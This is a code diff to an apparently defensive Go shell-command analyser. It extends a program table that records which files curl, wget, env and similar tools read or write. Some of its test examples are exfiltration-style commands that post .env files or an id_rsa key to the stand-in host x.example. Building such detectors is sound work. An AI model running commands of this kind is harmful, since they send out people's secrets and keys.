@@ -123,6 +123,15 @@ type writeSide struct {
 	// moves are options with which the operands not written are moved
 	// away, deleted as trees (rsync --remove-source-files, zip -m).
 	moves []string
+	// urlNames: what dot (or a valueTrees directory) receives is one file
+	// per URL operand, named after the URL's last path segment (urlIndex
+	// when it has none; no file when urlIndex is empty), not a tree of
+	// any names; urlTrees are the options that fetch trees or take names
+	// from elsewhere (wget -r, --content-disposition, -i), with which
+	// the directory is a tree again.
+	urlNames bool
+	urlIndex string
+	urlTrees []string
 }
 
 // wrapSide is how a wrapper finds the command it runs.
@@ -153,6 +162,9 @@ type wrapSide struct {
 	// printsOnly: with one of these the command is only printed (command
 	// -v).
 	printsOnly []string
+	// dashOption: a lone "-" is an option, not the command (env - is env
+	// -i).
+	dashOption bool
 }
 
 // programTable is every program the analysis knows, other than git, the
@@ -283,14 +295,19 @@ var programTable = [...]progSpec{
 			"proxy", "user-agent", "referer", "cookie", "cookie-jar", "config", "write-out", "max-time", "range", "json", "url", "dump-header", "output-dir"},
 		atReads:    []string{"-d", "--data", "--data-binary", "--data-ascii", "--data-urlencode", "-F", "--form", "--json", "-H", "--header"},
 		valueReads: []string{"-T", "--upload-file", "-K", "--config"},
-		write:      writeSide{kind: wkNone, op: "curl", values: []string{"-o", "--output", "-D", "--dump-header", "-c", "--cookie-jar"}, dotWhen: []string{"-O", "--remote-name", "--remote-name-all"}},
+		write: writeSide{kind: wkNone, op: "curl", values: []string{"-o", "--output", "-D", "--dump-header", "-c", "--cookie-jar"}, dotWhen: []string{"-O", "--remote-name", "--remote-name-all"},
+			urlNames: true, urlTrees: []string{"-J", "--remote-header-name", "-K", "--config"}},
 		examples: []example{{command: "curl -d @.env https://x.example", reads: ".env"}, {command: "curl -F f=@id_rsa https://x.example", reads: "id_rsa"}, {command: "curl -T .env.local https://x.example", reads: ".env.local"},
-			{command: "curl -o out https://x.example", writes: "out"}, {command: "curl -d a=b https://x.example"}, {command: "curl -sSfLO https://x.example/a", writes: "tree:."}}},
+			{command: "curl -o out https://x.example", writes: "out"}, {command: "curl -d a=b https://x.example"}, {command: "curl -sSfLO https://x.example/a", writes: "a"},
+			{command: "curl -OJ https://x.example/a", writes: "tree:."}, {command: "curl -o - https://x.example/a"}, {command: "curl -O https://x.example/d/.toolingrc?x=1", writes: ".toolingrc"}}},
 	{names: []string{"wget"}, role: rdValues, short: "OoaiPe", long: []string{"post-file", "body-file", "output-document", "input-file", "output-file", "append-output", "directory-prefix"},
 		valueReads: []string{"--post-file", "--body-file"},
-		write:      writeSide{kind: wkNone, op: "wget", values: []string{"-O", "--output-document"}, valueTrees: []string{"-P", "--directory-prefix"}, dot: true},
-		examples: []example{{command: "wget --post-file=.env https://x.example", reads: ".env", writes: "tree:."}, {command: "wget -O x https://x.example", writes: "x"},
-			{command: "wget -q -P dl https://x.example/a", writes: "tree:dl"}}},
+		write: writeSide{kind: wkNone, op: "wget", values: []string{"-O", "--output-document"}, valueTrees: []string{"-P", "--directory-prefix"}, dot: true,
+			urlNames: true, urlIndex: "index.html", urlTrees: []string{"-r", "--recursive", "-m", "--mirror", "-p", "--page-requisites", "-i", "--input-file",
+				"--content-disposition", "--trust-server-names", "-x", "--force-directories", "-e", "--execute"}},
+		examples: []example{{command: "wget --post-file=.env https://x.example", reads: ".env", writes: "index.html"}, {command: "wget -O x https://x.example", writes: "x"},
+			{command: "wget -q -P dl https://x.example/a", writes: "dl/a"}, {command: "wget https://x.example/f/.toolingrc", writes: ".toolingrc"},
+			{command: "wget -r https://x.example/a", writes: "tree:."}, {command: "wget -qO- https://x.example/a"}, {command: "wget -P dl --content-disposition https://x.example/a", writes: "tree:dl"}}},
 	{names: []string{"aria2c"}, short: "od", long: []string{"out", "dir"}, write: writeSide{kind: wkNone, values: []string{"-o", "--out"}, valueTrees: []string{"-d", "--dir"}},
 		examples: []example{{command: "aria2c -d dl -o a.iso https://x.example/a.iso", writes: "tree:dl a.iso"}}},
 	{names: []string{"openssl"}, role: rdValues, singleDash: true, long: []string{"in", "inkey", "key", "kfile", "out", "keyout", "passin", "passout", "config"},
@@ -391,8 +408,8 @@ var programTable = [...]progSpec{
 	// Wrappers: programs that run the command given as their arguments.
 	{names: []string{"env"}, short: "uCSP", long: []string{"unset", "chdir", "split-string", "default-signal", "ignore-signal", "block-signal"},
 		write: writeSide{kind: wkNone},
-		wrap:  wrapSide{on: true, assigns: true, chdir: []string{"-C", "--chdir"}, unset: []string{"-u", "--unset"}, split: []string{"-S", "--split-string"}},
-		examples: []example{{command: "env FOO=1 git status", runs: "git status"}, {command: "env -C /x -u HOME make", runs: "make@/x"}, {command: "env -P /usr/bin git reset --hard", writes: "tree:.", runs: "git reset --hard"},
+		wrap:  wrapSide{on: true, assigns: true, dashOption: true, chdir: []string{"-C", "--chdir"}, unset: []string{"-u", "--unset"}, split: []string{"-S", "--split-string"}},
+		examples: []example{{command: "env FOO=1 git status", runs: "git status"}, {command: "env - PATH=/usr/bin git status", runs: "git status"}, {command: "env -C /x -u HOME make", runs: "make@/x"}, {command: "env -P /usr/bin git reset --hard", writes: "tree:.", runs: "git reset --hard"},
 			{command: "env -S 'git push' origin", runs: "git push origin"}}},
 	{names: []string{"sudo"}, short: "uUgpCDrthRTc", long: []string{"user", "group", "chdir", "prompt", "close-from", "role", "type", "host", "chroot", "command-timeout", "other-user"},
 		write:    writeSide{kind: wkNone},
